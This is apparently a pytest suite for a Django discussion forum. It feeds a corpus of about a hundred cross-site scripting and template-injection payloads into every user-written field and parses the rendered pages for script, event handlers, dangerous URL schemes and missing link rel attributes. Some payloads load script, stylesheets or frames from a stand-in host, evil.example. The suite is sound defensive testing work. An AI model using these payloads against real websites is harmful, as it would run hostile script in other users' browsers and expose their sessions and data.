"""Cross-site scripting corpus.

Every payload goes into every field people write that a page shows (thread title, thread body,
comment body, tags, display names, and text echoed back into forms), and every page that shows
them is parsed. A page passes when it has no script beyond the site's own, no event-handler
attribute, no javascript:/data:/vbscript: URL, no embedded frame, object, SVG or MathML beyond the
site's own, and when every link people wrote carries rel="nofollow ugc noopener".

"The site's own" is measured on the same pages built from plain words in another programme.
"""

import re
from collections import Counter
from dataclasses import dataclass, field
from html.parser import HTMLParser

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils.html import escape

from forums import services
from forums.models import Tag
from tests.factories import ModeratorFactory, UserFactory
from tests.forums.factories import ThreadFactory, general_board

pytestmark = pytest.mark.django_db

HTMX = {"HX-Request": "true"}

PAYLOADS = [
    # script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script\n>alert(1)</script\n>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<img/src/onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover me</div>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<x onclick=alert(1)>click",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    # breaking out of attributes and elements
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '"autofocus onfocus=alert(1)//',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    '</option></datalist><script>alert(1)</script>',
    # javascript:, data: and vbscript: in markdown links and autolinks
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](  javascript:alert(1) )",
    "[click](java&#x09;script:alert(1))",
    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[click](javascript://%0aalert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[ref][x]\n\n[x]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "[click](%6A%61%76%61%73%63%72%69%70%74:alert(1))",
    # link title and target injection
    '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")',
    "[x](https://ok.example 'a\\' onclick=\\'alert(1)')",
    '[x](https://ok.example "<script>alert(1)</script>")',
    '[x](https://ok.example/"onmouseover="alert(1))',
    '<https://ok.example/"onmouseover="alert(1)>',
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    '<a href="https://ok.example" target="_blank" onclick="alert(1)">raw link</a>',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">CLICK</math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # already-encoded text
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    # broken tags
    '<img src="x',
    '<a href="javascript:alert(1)"',
    '<img """><script>alert(1)</script>">',
    "<iframe src=javascript:alert(1)",
    # style
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="width:expression(alert(1))">x</div>',
    "<p style=\"background-image:url('javascript:alert(1)')\">x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    # frames, objects, embeds and other ways to load or send things
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2Zy8+">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<button formaction=javascript:alert(1)>x</button>",
    '<div hx-get="/accounts/logout/" hx-trigger="load">htmx</div>',
    '<a hx-post="/threads/1/like/" hx-trigger="load">htmx</a>',
    # template syntax
    "{{ request.user.email }}",
    "{% debug %}",
    "{{7*7}} ${7*7} #{7*7}",
    '{% include "base.html" %}',
    # unicode tricks
    "\u202egnp.exe",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "[click](ｊａｖａｓｃｒｉｐｔ:alert(1))",
    "line\u2028<script>alert(1)</script>",
    # comments, CDATA and processing instructions
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    # markup inside markdown constructs
    "```\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "**<script>**alert(1)**</script>**",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    # a polyglot
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
    "</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
]

DANGEROUS_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "base", "meta", "link",
    "style", "img", "video", "audio", "source", "form", "input", "button", "textarea", "select", "template",
    "noscript", "marquee", "details", "title",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "data", "xlink:href", "poster", "background", "srcset", "ping",
    "cite", "srcdoc", "content",
}  # fmt: skip
BAD_SCHEMES = ("javascript:", "data:", "vbscript:")
USER_CONTENT_TAGS = {"p", "br", "em", "strong", "ul", "ol", "li", "blockquote", "a", "code", "pre"}
USER_LINK_REL = {"nofollow", "ugc", "noopener"}
VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}


def test_the_corpus_has_at_least_fifty_distinct_payloads():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 50


# Reading a page


@dataclass
class Element:
    tag: str
    attrs: list[tuple[str, str | None]]
    in_user_content: bool


@dataclass
class Census:
    elements: list[Element] = field(default_factory=list)
    scripts: list[tuple] = field(default_factory=list)
    user_regions: int = 0

    def count(self, predicate) -> Counter:
        return Counter(key for e in self.elements for key in predicate(e))


class _Reader(HTMLParser):
    """Records every element, whether it sits inside a `.th-body` (text people wrote), and each script."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.census = Census()
        self._stack: list[tuple[str, bool]] = []
        self._script: list | None = None

    def _start(self, tag, attrs, closes):
        inside = bool(self._stack) and self._stack[-1][1]
        self.census.elements.append(Element(tag, attrs, inside))
        classes = (dict(attrs).get("class") or "").split()
        opens_region = "th-body" in classes
        self.census.user_regions += opens_region
        if tag == "script":
            self._script = [tuple(sorted((k, v or "") for k, v in attrs)), ""]
            if closes:
                self._end_script()
        if not closes and tag not in VOID:
            self._stack.append((tag, inside or opens_region))

    def _end_script(self):
        self.census.scripts.append((self._script[0], self._script[1].strip()))
        self._script = None

    def handle_starttag(self, tag, attrs):
        self._start(tag, attrs, closes=False)

    def handle_startendtag(self, tag, attrs):
        self._start(tag, attrs, closes=True)

    def handle_endtag(self, tag):
        if tag == "script" and self._script is not None:
            self._end_script()
        for depth in range(len(self._stack) - 1, -1, -1):
            if self._stack[depth][0] == tag:
                del self._stack[depth:]
                break

    def handle_data(self, data):
        if self._script is not None:
            self._script[1] += data


def read(html: str) -> Census:
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.census


def _url(value: str | None) -> str:
    """How a browser reads a URL's scheme: control characters and white space are ignored."""
    return re.sub(r"[\x00-\x20\s]", "", value or "").lower()


def _is_offsite(href: str) -> bool:
    return bool(re.match(r"^([a-z][a-z0-9+.-]*:|//)", _url(href))) and not _url(href).startswith("/static/")


def problems(page: Census, baseline: Census) -> list[str]:
    found = []
    if Counter(page.scripts) != Counter(baseline.scripts):
        found.append(f"scripts differ from the site's own: {sorted(set(page.scripts) - set(baseline.scripts))}")
    for e in page.elements:
        for name, value in e.attrs:
            if name.startswith("on"):
                found.append(f"<{e.tag} {name}=...>")
            if (name in URL_ATTRIBUTES or name.startswith("hx-")) and any(
                _url(value).startswith(s) or f"url={s}" in _url(value) for s in BAD_SCHEMES
            ):
                found.append(f"<{e.tag} {name}={value!r}>")
            if name == "style" and re.search(r"expression|javascript:|url\(", _url(value)):
                found.append(f"<{e.tag} style={value!r}>")
        if e.in_user_content and e.tag not in USER_CONTENT_TAGS:
            found.append(f"<{e.tag}> inside text people wrote")
    dangerous = lambda e: [e.tag] if e.tag in DANGEROUS_TAGS else []  # noqa: E731
    if page.count(dangerous) != baseline.count(dangerous):
        found.append(f"elements beyond the site's own: {page.count(dangerous) - baseline.count(dangerous)}")
    special = lambda e: [n for n, _ in e.attrs if n.startswith(("hx-", "data-hx-", "style", "srcdoc"))]  # noqa: E731
    if page.count(special) != baseline.count(special):
        found.append(f"attributes beyond the site's own: {page.count(special) - baseline.count(special)}")
    site_hrefs = {value for e in baseline.elements for name, value in e.attrs if name == "href"}
    for e in page.elements:
        href = dict(e.attrs).get("href")
        if e.tag == "a" and href is not None and (e.in_user_content or (_is_offsite(href) and href not in site_hrefs)):
            rel = set((dict(e.attrs).get("rel") or "").split())
            if not USER_LINK_REL <= rel:
                found.append(f"link {href!r} without rel={' '.join(sorted(USER_LINK_REL))}")
    return found


_SHELL = (
    '<html><head><title>T</title><script src="/static/js/site.js"></script></head><body>'
    '<a href="https://www.nhs.uk">NHS</a><div class="th-body"><p>hi {}</p></div>{}</body></html>'
)


@pytest.mark.parametrize(
    "injected",
    [
        "<script>alert(1)</script>",
        '<script src="/static/js/other.js"></script>',
        '<p onclick="x()">',
        '<a href=" jAvA\tscript:alert(1)">x</a>',
        '<a href="data:text/html,x">x</a>',
        '<form action="vbscript:x">',
        '<iframe src="https://evil.example"></iframe>',
        "<svg></svg>",
        "<math></math>",
        '<div hx-get="/accounts/logout/">',
        '<p style="color:red">',
        '<a href="https://evil.example">x</a>',
        '<a href="https://evil.example" rel="nofollow">x</a>',
    ],
)
def test_the_checker_catches_each_kind_of_injection(injected):
    """The corpus is only as good as its checker: each kind of injection must be reported."""
    base = read(_SHELL.format("", ""))

    assert problems(read(_SHELL.format("", injected)), base)


@pytest.mark.parametrize(
    "inside", ["<img src=x>", '<a href="/threads/1/">own link</a>', "<h1>big</h1>", "<span>x</span>"]
)
def test_the_checker_allows_only_user_formatting_inside_what_people_wrote(inside):
    base = read(_SHELL.format("", ""))

    assert problems(read(_SHELL.format(inside, "")), base)


def test_the_checker_passes_escaped_text_and_proper_user_links():
    base = read(_SHELL.format("", ""))
    page = read(
        _SHELL.format(
            '&lt;script&gt;alert(1)&lt;/script&gt; <a href="https://x.example" rel="nofollow ugc noopener">x</a>', ""
        )
    )

    assert problems(page, base) == []


# Building the pages


@dataclass
class Scene:
    thread: object
    top: object
    author: object
    replier: object
    moderator: object
    tag: Tag | None


def _person(name: str):
    """Display names are set directly: the validator rejects most payloads, the database does not."""
    return UserFactory(display_name=name[:30])


def build(text: str, programme: str) -> Scene:
    author, replier = _person(text), _person("2" + text)
    board = general_board(programme)
    try:
        thread = services.thread_create(actor=author, board=board, title=text[:150], body=text, tags=[text])
    except ValidationError as error:
        assert error.code == "bad_tag", error
        thread = services.thread_create(actor=author, board=board, title=text[:150], body=text)
    top = services.comment_post(actor=replier, thread=thread, body=text)
    second = services.comment_post(actor=author, thread=thread, body=f"{text}\n\nsecond", parent=top)
    third = services.comment_post(actor=replier, thread=thread, body=f"{text}\n\nthird", parent=second)
    services.comment_post(actor=author, thread=thread, body=f"{text}\n\nfourth", parent=third)
    services.comment_edit(actor=replier, comment=top, body=f"{text}\n\nedited")
    services.thread_like_toggle(actor=replier, thread=thread)
    return Scene(thread, top, author, replier, ModeratorFactory(), thread.tags.first())


def pages(client, scene: Scene, text: str) -> dict[str, tuple[int, str]]:
    """Every page and fragment that shows what the scene's people wrote, as each kind of visitor."""
    thread, top = scene.thread, scene.top
    got = {}

    def fetch(name, method, url, data=None, **extra):
        response = getattr(client, method)(url, data or {}, **extra)
        got[name] = (response.status_code, response.content.decode())

    client.logout()
    fetch("thread, anonymous", "get", thread.get_absolute_url())
    fetch("board", "get", reverse("forums:board", args=[thread.board.programme.slug, thread.board.slug]))
    fetch("programme hub", "get", reverse("programmes:hub", args=[thread.board.programme.slug]))
    if scene.tag is not None:
        fetch("tag page", "get", scene.tag.get_absolute_url())
        fetch("tag suggestions", "get", reverse("forums:tag_suggest"), {"tags": f"x, {scene.tag.name[:3]}"})
    fetch("signup echo", "post", reverse("account_signup"), {"email": "bad", "display_name": text, "password1": "x"})
    fetch("search results", "get", reverse("search:search"), {"q": "third"})
    fetch("public profile, discussions", "get", reverse("forums:person", args=[scene.author.pk]))
    fetch("public profile, comments", "get", reverse("forums:person", args=[scene.author.pk]), {"show": "comments"})
    fetch("search echo", "get", reverse("search:search"), {"q": text[:100], "tag": text[:100]})

    client.force_login(scene.replier)
    fetch("quote page", "get", reverse("forums:comment_reply", args=[top.pk]), {"quote": "1", "text": text})
    fetch("edit page", "get", reverse("forums:comment_edit", args=[top.pk]))
    fetch("delete page", "get", reverse("forums:comment_delete", args=[top.pk]))
    fetch("profile", "get", reverse("accounts:profile"))
    fetch("profile echo", "post", reverse("accounts:profile"), {"display_name": f"{text}@", "borough": ""})
    fetch(
        "refused reply echo",
        "post",
        reverse("forums:comment_create", args=[thread.pk]),
        {"body": f"{text}\n\nthird", "parent": top.pk},
    )
    fetch(
        "refused discussion echo",
        "post",
        reverse("forums:thread_create", args=[thread.board.programme.slug, thread.board.slug]),
        {"title": text[:150], "body": f"{text}\n\nthird", "tags": text[:50]},
    )
    fetch(
        "more replies, htmx",
        "get",
        thread.get_absolute_url(),
        {"fragment": "comments", "page": "1"},
        headers=HTMX,
    )

    fetch("edit history", "get", reverse("forums:comment_history", args=[top.pk]))
    client.force_login(scene.moderator)
    fetch("thread, moderator", "get", thread.get_absolute_url())
    return got


_BASELINE: dict[str, tuple[int, Census]] = {}


def baseline(client) -> dict[str, tuple[int, Census]]:
    """The site's own markup, from the same pages built from plain words (measured once)."""
    if not _BASELINE:
        scene = build("Plain words", "cancer")
        for name, (status, html) in pages(client, scene, "Plain words").items():
            _BASELINE[name] = (status, read(html))
    return _BASELINE


def test_the_baseline_pages_render_and_mark_where_people_wrote(client):
    base = baseline(client)

    assert {name: status for name, (status, _) in base.items()} == {
        "thread, anonymous": 200, "board": 200, "programme hub": 200, "tag page": 200, "tag suggestions": 200,
        "signup echo": 200, "search results": 200, "search echo": 200, "public profile, discussions": 200,
        "public profile, comments": 200,
        "quote page": 200, "edit page": 200, "delete page": 200, "profile": 200, "profile echo": 200,
        "refused reply echo": 400, "refused discussion echo": 200, "more replies, htmx": 200,
        "thread, moderator": 200, "edit history": 200,
    }  # fmt: skip
    for name in ("thread, anonymous", "quote page", "delete page", "edit history", "more replies, htmx"):
        assert base[name][1].user_regions >= 1, name
    assert sum(e.tag == "mark" for e in base["search results"][1].elements) >= 1
    attributes = [name for _, census in base.values() for e in census.elements for name, _ in e.attrs]
    assert not any(name.startswith("on") for name in attributes)


@pytest.mark.parametrize("payload", PAYLOADS, ids=[f"{n:02d}" for n in range(len(PAYLOADS))])
def test_no_payload_can_run_script_on_any_page(client, payload):
    base = baseline(client)
    scene = build(payload, "prevention")

    found = {}
    for name, (status, html) in pages(client, scene, payload).items():
        assert status == base[name][0], f"{name}: {status}"
        if trouble := problems(read(html), base[name][1]):
            found[name] = trouble

    assert not found


# Focused checks


def _posted_with_htmx(client, scene: Scene, text: str) -> list[Census]:
    client.force_login(scene.replier)
    pages = []
    for parent in (None, scene.top):
        data = {"body": f"{text}\n\nhtmx {bool(parent)}", **({"parent": parent.pk} if parent else {})}
        response = client.post(reverse("forums:comment_create", args=[scene.thread.pk]), data, headers=HTMX)
        assert response.status_code == 200
        pages.append(read(response.content.decode()))
    return pages


@pytest.mark.parametrize(
    "payload", PAYLOADS[:8] + PAYLOADS[16:22] + PAYLOADS[25:30], ids=lambda p: f"{PAYLOADS.index(p):02d}"
)
def test_a_reply_posted_with_htmx_comes_back_without_script(client, payload):
    base = _posted_with_htmx(client, build("Plain words", "cancer"), "Plain words")

    attack = _posted_with_htmx(client, build(payload, "prevention"), payload)

    assert [problems(page, plain) for page, plain in zip(attack, base)] == [[], []]


def test_user_links_carry_the_rel_on_every_page(client):
    scene = build("See [the NHS](https://www.nhs.uk) or <https://www.london.gov.uk>", "prevention")

    for name, (_, html) in pages(client, scene, "x").items():
        for e in read(html).elements:
            attrs = dict(e.attrs)
            if e.tag == "a" and attrs.get("href") in {"https://www.nhs.uk", "https://www.london.gov.uk"}:
                assert set(attrs.get("rel", "").split()) >= USER_LINK_REL, name


def test_template_syntax_is_shown_as_written_and_never_evaluated(client):
    text = "{{ request.user.email }} {% csrf_token %} {{ 7|add:7 }}"
    thread = ThreadFactory(title=text, body=text)
    viewer = UserFactory()
    client.force_login(viewer)

    page = client.get(thread.get_absolute_url()).content.decode()

    assert page.count(escape(text)) >= 2
    assert viewer.email not in page


@pytest.mark.parametrize("name", ["Tom O'Neil", "Anne-Marie", "D. Okafor-Smith", "Zoë Łukasz", "Jo D'Arcy-O'Hara"])
def test_display_names_the_validator_allows_render_escaped(client, name):
    """Apostrophes are the one quote a display name may hold: never raw, so no attribute can be closed."""
    person = UserFactory()
    client.force_login(person)
    response = client.post(reverse("accounts:profile"), {"display_name": name, "borough": ""})
    assert response.status_code == 302
    person.refresh_from_db()
    assert person.display_name == name
    thread = ThreadFactory(author=person)
    services.comment_post(actor=person, thread=thread, body="A reply")

    hub = reverse("programmes:hub", args=["prevention"])
    for url in (thread.get_absolute_url(), reverse("accounts:profile"), hub):
        page = client.get(url).content.decode()
        assert escape(name) in page, url
        if "'" in name:
            assert name not in page, url


@pytest.mark.parametrize(
    "name", ['"><script>alert(1)</script>', "<img src=x onerror=alert(1)>", "x' onfocus='alert(1)", "{{ user.email }}"]
)
def test_the_profile_form_refuses_markup_in_display_names_and_echoes_it_escaped(client, name):
    person = UserFactory(display_name="Plain Person")
    client.force_login(person)

    response = client.post(reverse("accounts:profile"), {"display_name": name, "borough": ""})

    assert response.status_code == 200
    person.refresh_from_db()
    assert person.display_name == "Plain Person"
    page = response.content.decode()
    assert f'value="{escape(name)}"' in page
    assert person.email not in page


def test_discussion_pages_cannot_be_framed_or_sniffed(client):
    """Defence in depth: no clickjacking of the reply and like buttons, no content-type guessing."""
    thread = ThreadFactory()
    client.force_login(UserFactory())

    response = client.get(thread.get_absolute_url())

    assert response["X-Frame-Options"] == "DENY"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Referrer-Policy"] == "same-origin"
    assert response["Content-Type"] == "text/html; charset=utf-8"
